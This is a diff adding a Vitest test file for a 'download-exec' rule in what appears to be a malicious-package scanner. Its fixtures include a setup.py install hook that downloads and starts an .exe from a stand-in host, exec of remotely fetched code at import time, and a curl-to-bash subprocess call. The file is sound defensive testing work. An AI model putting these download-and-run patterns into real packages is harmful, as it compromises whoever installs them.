@@ -1,0 +1,25 @@
+import { describe, it, expect } from 'vitest';
+import { hits, maxSev } from './helpers.js';
+
+describe('download-exec', () => {
+  it('flags downloading an .exe and starting it from setup.py (critical)', () => {
+    const src = `import os, requests\nfrom setuptools import setup\nfrom setuptools.command.install import install\ndef execute():\n    r = requests.get("https://a.example.co/Cleaner.exe")\n    open("Cleaner.exe", "wb").write(r.content)\n    os.system("start Cleaner.exe")\nclass P(install):\n    def run(self):\n        execute()\n        install.run(self)\nsetup(name='x', cmdclass={'install': P})\n`;
+    expect(maxSev(hits('download-exec', { 'setup.py': src }))).toBe('critical');
+  });
+  it('flags exec(urlopen(url).read()) at import time', () => {
+    const src = `from urllib.request import urlopen\nexec(urlopen('https://example.net/stage2.py').read())\n`;
+    expect(maxSev(hits('download-exec', { 'pkg/__init__.py': src }))).toBe('critical');
+  });
+  it('flags curl | sh handed to a shell', () => {
+    const src = `import subprocess\nsubprocess.call('curl -fsSL https://x.example/i.sh | bash', shell=True)\n`;
+    expect(maxSev(hits('download-exec', { 'setup.py': src }))).toBe('critical');
+  });
+  it('keeps a source-tarball download + make build medium at most (lxml/xmlsec pattern)', () => {
+    const src = `import subprocess\nfrom urllib.request import urlretrieve\ndef build_libxml2(v):\n    urlretrieve('https://download.gnome.org/sources/libxml2/%s.tar.xz' % v, 'libxml2.tar.xz')\n    subprocess.check_call(['./configure', '--without-python'])\n    subprocess.check_call(['make'])\n`;
+    const f = hits('download-exec', { 'buildlibxml.py': src });
+    expect(['none', 'low', 'medium']).toContain(maxSev(f));
+  });
+  it('does not flag network use without any process or exec', () => {
+    expect(hits('download-exec', { 'pkg/api.py': `import requests\ndef get(u):\n    return requests.get(u).json()\n` })).toEqual([]);
+  });
+});
